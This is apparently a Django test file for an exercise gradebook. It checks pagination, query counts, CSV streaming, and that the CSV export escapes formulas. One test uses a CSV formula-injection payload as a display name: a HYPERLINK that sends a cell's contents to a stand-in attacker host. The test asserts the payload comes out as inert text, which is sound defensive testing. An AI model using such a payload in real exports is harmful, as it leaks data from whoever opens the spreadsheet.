"""The gradebook at scale: the trainees a page at a time, the same number of queries for
twenty trainees or two hundred (five graded reports each), the most missed fields counted
inside the feedback by the database, and the CSV streamed in chunks without loading any
feedback, with no formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from itertools import count

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from courses.exercises.models import GradeResult, Submission, SubmissionStatus
from members.models import User
from tests.exercises.factories import make_exercise
from tests.factories import UserFactory, instructor
from tests.support.signin import sign_in

pytestmark = pytest.mark.django_db
_people = count()
FEEDBACK = [  # field_b is wrong in every report, field_c in none
    {"field": "field_a", "correct": True, "points": 1, "possible": 1, "why": "x" * 200},
    {"field": "field_b", "correct": False, "points": 0, "possible": 1, "why": "y" * 200},
    {"field": "field_c", "correct": True, "points": 1, "possible": 1, "why": "z" * 200},
]


def add_trainees(exercise, n: int, *, attempts: int = 5) -> list[User]:
    """n trainees, each with `attempts` graded reports on the exercise's case (the last
    one passed) and one draft that the gradebook must not count."""
    case = exercise.cases.first()
    users = User.objects.bulk_create(
        [
            User(email=f"trainee{next(_people):05d}@example.org", display_name=f"Trainee {i}")
            for i in range(n)
        ]
    )
    sent = Submission.objects.bulk_create(
        [
            Submission(
                user=u,
                exercise=exercise,
                case=case,
                attempt=a,
                values={"impression": "v" * 300},
                status=SubmissionStatus.GRADED,
                submitted_at=timezone.now(),
            )
            for u in users
            for a in range(1, attempts + 1)
        ]
    )
    Submission.objects.bulk_create(
        [Submission(user=u, exercise=exercise, case=case, attempt=attempts + 1) for u in users]
    )
    GradeResult.objects.bulk_create(
        [
            GradeResult(
                submission=s,
                score=0.2 * s.attempt - 0.1,
                points=2,
                possible=3,
                passed=s.attempt == attempts,
                pass_mark=0.7,
                feedback=FEEDBACK,
                grader_version="test",
                key_hash="h",
            )
            for s in sent
        ]
    )
    return users


@pytest.fixture
def teacher_client(login_as):
    return login_as(instructor())


def gradebook_page(client, exercise, query: str = "") -> str:
    response = client.get(
        reverse("exercise-gradebook", kwargs={"exercise_id": exercise.pk}) + query
    )
    assert response.status_code == 200
    return response.content.decode()


def gradebook_csv(client, exercise) -> list[list[str]]:
    response = client.get(reverse("exercise-gradebook-csv", kwargs={"exercise_id": exercise.pk}))
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_gradebook_costs_the_same_with_ten_times_the_trainees(
    teacher_client, django_assert_num_queries
):
    exercise = make_exercise(cases=1)
    add_trainees(exercise, 20)
    gradebook_page(teacher_client, exercise)  # warm the per-process caches
    with CaptureQueriesContext(connection) as small:
        page = gradebook_page(teacher_client, exercise)
    assert page.count("<td>5</td><td>90%</td><td>Yes</td>") == 20
    assert "<td>100</td><td>100%</td>" in page  # field_b wrong in all 100 graded reports
    assert "field_c" not in page  # never wrong, never listed

    add_trainees(exercise, 180)
    with django_assert_num_queries(len(small)):
        page = gradebook_page(teacher_client, exercise)
    assert page.count("<td>5</td><td>90%</td><td>Yes</td>") == 50  # one page of 200
    assert "<td>1000</td><td>100%</td>" in page
    assert "Showing 1–50 of 200" in page
    assert '<nav class="pagination-nav" aria-label="Pages of trainees">' in page


def test_the_trainees_pages_reach_the_last_trainee(teacher_client):
    exercise = make_exercise(cases=1)
    emails = sorted(u.email for u in add_trainees(exercise, 60, attempts=1))
    users = {u.email: u for u in User.objects.filter(email__in=emails)}
    second = gradebook_page(teacher_client, exercise, "?page=2")
    assert "Showing 51–60 of 60" in second
    assert users[emails[59]].name in second and users[emails[0]].name not in second
    assert 'aria-current="page"><span class="visually-hidden">Page </span>2</a>' in second


def test_the_gradebook_csv_streams_every_submission_without_loading_feedback(
    teacher_client, django_assert_num_queries
):
    exercise = make_exercise(cases=1)
    add_trainees(exercise, 20)
    gradebook_csv(teacher_client, exercise)
    with CaptureQueriesContext(connection) as small:
        rows = gradebook_csv(teacher_client, exercise)
    assert rows[0] == [
        "trainee", "email", "case", "attempt", "status", "submitted_at", "score", "passed"
    ]  # fmt: skip
    assert len(rows) == 1 + 20 * 5  # drafts are not exported
    loaded = " ".join(q["sql"] for q in small.captured_queries)
    assert '"feedback"' not in loaded and '"exercises_submission"."values"' not in loaded
    add_trainees(exercise, 180)
    with django_assert_num_queries(len(small)):
        rows = gradebook_csv(teacher_client, exercise)
    assert len(rows) == 1 + 200 * 5
    assert {r[7] for r in rows[1:] if r[3] == "5"} == {"yes"}


def test_a_trainee_who_names_themselves_a_formula_reaches_the_gradebook_csv_as_text(
    teacher_client,
):
    exercise = make_exercise(cases=1)
    trainee = UserFactory(email="mallory@example.org")
    attacker = Client()
    sign_in(attacker, trainee)
    name = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'
    response = attacker.post(
        reverse("members:profile"), {"display_name": name, "first_name": "", "last_name": ""}
    )
    assert response.status_code == 302
    Submission.objects.create(
        user=trainee,
        exercise=exercise,
        case=exercise.cases.first(),
        status=SubmissionStatus.QUEUED,
        submitted_at=timezone.now(),
    )
    row = next(r for r in gradebook_csv(teacher_client, exercise) if r[1] == trainee.email)
    assert row[0] == "'" + name
